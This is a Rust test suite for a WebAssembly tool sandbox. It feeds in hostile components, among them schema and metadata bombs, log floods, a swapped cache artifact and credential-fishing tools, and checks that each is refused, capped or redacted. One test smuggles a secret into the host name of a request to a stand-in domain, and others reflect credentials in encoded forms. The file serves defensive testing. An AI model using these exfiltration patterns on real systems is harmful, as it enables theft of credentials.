//! Components written as an attacker would: exponential schemas, oversized
//! metadata, unusable outputs, log floods, swapped cache artifacts and
//! upstreams that reflect the injected credential.

use crate::*;
use warden_sandbox::{
    ArtifactKey, ErrorKind, HostPattern, HttpGrants, MAX_ERROR_MESSAGE_BYTES, caps,
};
use warden_testing::HttpTarget;
use warden_tool_artifacts as artifacts;

async fn refused(path: &str) -> String {
    let e = sandbox()
        .load_file(path.as_ref())
        .await
        .expect_err("the component must be refused");
    assert_eq!(e.kind, ErrorKind::InvalidComponent, "{e:?}");
    e.message
}

#[tokio::test(flavor = "multi_thread")]
async fn exponential_schemas_are_refused_at_load_naming_the_rule() {
    let message = refused(artifacts::SCHEMA_BOMB).await;
    assert!(
        message.contains("config-schema expands to more than 10000 subschemas"),
        "{message}"
    );
    assert!(
        message.contains("parameters of function `run` expands to more than 10000"),
        "{message}"
    );
    echo_still_works().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn oversized_metadata_is_refused_naming_the_caps() {
    let message = refused(artifacts::METADATA_BOMB).await;
    assert!(
        message.contains(&format!(
            "declares 20000 functions, over the limit of {}",
            caps::MAX_FUNCTIONS
        )),
        "{message}"
    );
    // The refusal itself is short: no echo of 20,000 names or 2 MB of text.
    assert!(message.len() < 1024, "{} bytes", message.len());
    assert!(sandbox().loaded(&"0".repeat(64)).is_none());
    echo_still_works().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn results_are_json_every_client_parses() {
    let tool = load(artifacts::HOSTILE_OUTPUT).await;
    for (function, arguments, why) in [
        ("deep", json!({ "depth": 100_000 }), "recursion limit"),
        ("huge_number", json!({}), "number out of range"),
        ("lone_surrogate", json!({}), "escape"),
    ] {
        let e = err(invoke(&tool, call(function, arguments)).await);
        assert_eq!(e.kind, ErrorKind::Internal, "{function}: {e:?}");
        assert!(e.message.contains("invalid JSON"), "{function}: {e:?}");
        assert!(e.message.contains(why), "{function}: {e:?}");
    }
    // Within the bounds, results come back canonical: duplicates resolved,
    // nesting kept.
    let outcome = invoke(&tool, call("duplicate_keys", json!({}))).await;
    assert_eq!(outcome.result.as_ref().unwrap().get(), r#"{"a":2}"#);
    let outcome = invoke(&tool, call("deep", json!({ "depth": 100 }))).await;
    assert!(outcome.result.is_ok(), "{:?}", outcome.result);
}

#[tokio::test(flavor = "multi_thread")]
async fn tool_error_messages_and_log_records_are_cut_to_their_limits() {
    let tool = load(artifacts::HOSTILE_OUTPUT).await;
    let e = err(invoke(&tool, call("long_error", json!({ "bytes": 40 << 20 }))).await);
    assert_eq!(e.kind, ErrorKind::Upstream);
    assert_eq!(e.message.len(), MAX_ERROR_MESSAGE_BYTES);

    let outcome = invoke(
        &tool,
        call("log_flood", json!({ "bytes": 4 << 20, "records": 300 })),
    )
    .await;
    assert_eq!(ok(&outcome)["logged"], true);
    let limits = warden_sandbox::Limits::default();
    assert_eq!(outcome.report.logs.len(), limits.max_log_records);
    assert_eq!(outcome.report.logs_dropped, 300 - limits.max_log_records);
    for record in &outcome.report.logs {
        assert_eq!(record.message.len(), limits.max_log_message_bytes);
        // Only the kept bytes stay allocated.
        assert!(record.message.capacity() <= 2 * limits.max_log_message_bytes);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_swapped_cached_artifact_is_discarded_and_recompiled() {
    let dir = tempfile::tempdir().unwrap();
    let config = || SandboxConfig {
        max_instances: 2,
        cache_dir: Some(dir.path().to_owned()),
        artifact_key: Some(ArtifactKey::new([42; 32])),
        ..SandboxConfig::default()
    };
    let first = Sandbox::new(config()).unwrap();
    let echo = first.load_file(artifacts::ECHO.as_ref()).await.unwrap();
    let other = first.load_file(artifacts::STATEFUL.as_ref()).await.unwrap();
    let file = |sha: &str| {
        crate::loading::walk(dir.path())
            .into_iter()
            .find(|p| p.ends_with(&format!("{sha}.cwasm")))
            .expect("the artifact was cached")
    };
    // An attacker with write access to the cache puts another tool's
    // artifact under echo's hash.
    std::fs::copy(file(other.sha256()), file(echo.sha256())).unwrap();

    let second = Sandbox::new(config()).unwrap();
    let reloaded = second.load_file(artifacts::ECHO.as_ref()).await.unwrap();
    assert_eq!(reloaded.metadata().name, "echo");
    let outcome = second
        .invoke(&reloaded, call("echo", json!({ "message": "genuine" })))
        .await;
    assert_eq!(ok(&outcome)["message"], "genuine");

    // A cache written under another key is not trusted either.
    let third = Sandbox::new(SandboxConfig {
        artifact_key: Some(ArtifactKey::new([7; 32])),
        ..config()
    })
    .unwrap();
    let reloaded = third.load_file(artifacts::ECHO.as_ref()).await.unwrap();
    assert_eq!(reloaded.metadata().name, "echo");
}

#[tokio::test(flavor = "multi_thread")]
async fn refused_components_leave_nothing_in_the_cache() {
    let dir = tempfile::tempdir().unwrap();
    let sandbox = Sandbox::new(SandboxConfig {
        max_instances: 2,
        cache_dir: Some(dir.path().to_owned()),
        artifact_key: Some(ArtifactKey::new([1; 32])),
        ..SandboxConfig::default()
    })
    .unwrap();
    for path in [
        artifacts::BAD_METADATA,
        artifacts::SCHEMA_BOMB,
        artifacts::METADATA_BOMB,
    ] {
        sandbox.load_file(path.as_ref()).await.unwrap_err();
    }
    let cached: Vec<_> = crate::loading::walk(dir.path())
        .into_iter()
        .filter(|p| p.ends_with(".cwasm"))
        .collect();
    assert!(cached.is_empty(), "{cached:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn loaded_tools_are_bounded_least_recently_used_first() {
    let sandbox = Sandbox::new(SandboxConfig {
        max_instances: 2,
        max_loaded_tools: 2,
        ..SandboxConfig::default()
    })
    .unwrap();
    let echo = sandbox.load_file(artifacts::ECHO.as_ref()).await.unwrap();
    let trap = sandbox.load_file(artifacts::TRAP.as_ref()).await.unwrap();
    assert!(
        sandbox.loaded(echo.sha256()).is_some(),
        "echo is now the most recent"
    );
    let stateful = sandbox
        .load_file(artifacts::STATEFUL.as_ref())
        .await
        .unwrap();
    assert_eq!(sandbox.tools_loaded(), 2);
    assert!(
        sandbox.loaded(trap.sha256()).is_none(),
        "the least recently used went"
    );
    assert!(sandbox.loaded(echo.sha256()).is_some());
    assert!(sandbox.loaded(stateful.sha256()).is_some());
    // A dropped tool still works for whoever holds it, and loads again.
    let outcome = sandbox.invoke(&trap, call("nope", json!({}))).await;
    assert!(outcome.result.is_err());
}

const CANARY: &str = "canary/credential+value-9f3c";

/// Everything a caller of the sandbox could see of a call.
fn everything(outcome: &CallOutcome) -> String {
    format!("{:?}\n{:?}", outcome.result, outcome.report)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_reflected_credential_never_reaches_the_guest_in_any_encoding() {
    let probe = load(artifacts::HTTP_PROBE).await;
    let api = HttpTarget::start().await;
    let origin: HostPattern = api.origin().parse().unwrap();
    let grants = HttpGrants {
        allow_hosts: vec![origin.clone()],
        allow_private_network: true,
        credential_hosts: vec![("api_token".into(), origin)],
        ..HttpGrants::default()
    };
    let forms = warden_sandbox::redacted_spellings(CANARY);
    for encoding in ["", "base64", "hex", "json-unicode", "url"] {
        for chunk in [1, 7, 4096] {
            let url = api
                .url(&format!("/echo-headers?encoding={encoding}&chunk={chunk}"))
                .replace("encoding=&", "");
            let mut c = call("fetch", json!({ "url": url }));
            c.env.secrets = secrets(&[("api_token", CANARY)]);
            c.env.http = grants.clone();
            let outcome = invoke(&probe, c).await;
            let response = ok(&outcome);
            assert_eq!(response["status"], 200, "{encoding}/{chunk}");
            let body = response["body"].as_str().unwrap();
            assert!(
                body.contains("****"),
                "{encoding}/{chunk}: nothing scrubbed in {body}"
            );
            let seen = everything(&outcome);
            for form in &forms {
                assert!(
                    !body.contains(form.as_str()),
                    "{encoding}/{chunk}: {form} in {body}"
                );
                assert!(
                    !seen.contains(form.as_str()),
                    "{encoding}/{chunk}: {form} in {seen}"
                );
            }
        }
    }
    // The upstream did receive the credential (so it was the reflection
    // that was scrubbed, not the request).
    assert!(
        api.requests()
            .iter()
            .all(|r| r.header("authorization") == Some(format!("Bearer {CANARY}").as_str()))
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_a_tool_may_read_are_redacted_in_their_encodings_too() {
    let fisher = load(artifacts::SECRET_FISHER).await;
    let mut c = call("leak", json!({ "via": "result" }));
    c.env.secrets = secrets(&[("api_key", CANARY)]);
    let outcome = invoke(&fisher, c).await;
    // Results are redacted as a client decodes them: the JSON text sent out
    // holds no escaped spelling of the value either.
    let text = outcome.result.as_ref().unwrap().get().to_owned();
    assert!(text.contains("[REDACTED]"), "{text}");
    for form in warden_sandbox::redacted_spellings(CANARY) {
        assert!(!text.contains(form.as_str()), "{form} in {text}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn large_arguments_are_validated_under_the_budget() {
    // 600,000 values against echo's schema: more work than is done inline,
    // so it runs on a blocking thread under the time budget, with the same
    // answer as any invalid call.
    let echo = load(artifacts::ECHO).await;
    let args = json!({ "message": "x", "extra": vec![0; 600_000] });
    let e = err(invoke(&echo, call("echo", args)).await);
    assert_eq!(e.kind, ErrorKind::InvalidArguments, "{e:?}");
    assert!(
        e.message.contains("do not match the schema of `echo`"),
        "{e:?}"
    );
    echo_still_works().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn refused_request_records_are_redacted() {
    // A guest that knows a secret puts it in the host name of a request the
    // policy refuses: the record of the refusal must not carry it.
    const SECRET: &str = "canary-host-label-51c9";
    let probe = load(artifacts::HTTP_PROBE).await;
    let mut c = call(
        "fetch",
        json!({ "url": format!("https://{SECRET}.nowhere.example/") }),
    );
    c.env.secrets = secrets(&[("api_token", SECRET)]);
    let outcome = invoke(&probe, c).await;
    assert!(!outcome.report.denied_requests.is_empty());
    let seen = everything(&outcome);
    assert!(seen.contains("[REDACTED].nowhere.example"), "{seen}");
    assert!(!seen.contains(SECRET), "{seen}");
}
